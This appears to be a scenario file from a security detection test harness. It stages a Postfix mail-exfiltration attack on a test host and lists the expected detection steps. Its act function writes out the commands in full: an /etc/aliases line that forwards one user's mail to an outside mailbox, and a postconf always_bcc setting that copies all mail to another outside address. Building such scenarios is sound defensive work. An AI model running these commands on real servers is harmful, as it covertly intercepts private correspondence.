# The server's own tables carry the mail out: an alias for one person, and a copy of everything.
title="Alias line and always_bcc added, the mail server copies mail outside"
what="Under the administrator's login a line is added to /etc/aliases that delivers clerk's mail to an outside mailbox as well, and always_bcc is set to another outside mailbox with postconf. From then on Postfix sends copies to 203.0.113.10 and 203.0.113.25."
host=mx1.example.org user=ops daemons="cron sshd"

setup() { echo 'ops ALL=(root) NOPASSWD: /usr/bin/tee, /usr/bin/newaliases, /usr/sbin/postconf, /usr/sbin/postfix' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops; }
act() {
  small_talk 4
  ssh_as ops <<'L'
echo 'clerk: \clerk, clerk.archive@example.net' | sudo tee -a /etc/aliases
sudo newaliases
sudo postconf -e always_bcc=journal@example.com
sudo postfix reload
%sleep 2
L
  for n in 1 2 3 4; do mail_in --from "board$n@example.net" --to clerk@example.org --subject "Minutes $n"; sleep 1; done
  wait_log 'to=<clerk.archive@example.net>.*status=sent'; wait_log 'to=<journal@example.com>.*status=sent'
}
truth() {
  file_step alias 'tee openat:write NORMAL /etc/aliases' 'a line is added to the aliases'
  exec_step bcc 'postconf -e always_bcc=journal@example.com' 'everything gets a copy'
  mail_step copied 'to=<clerk.archive@example.net>.*status=sent' 'mail leaves by the alias'
}
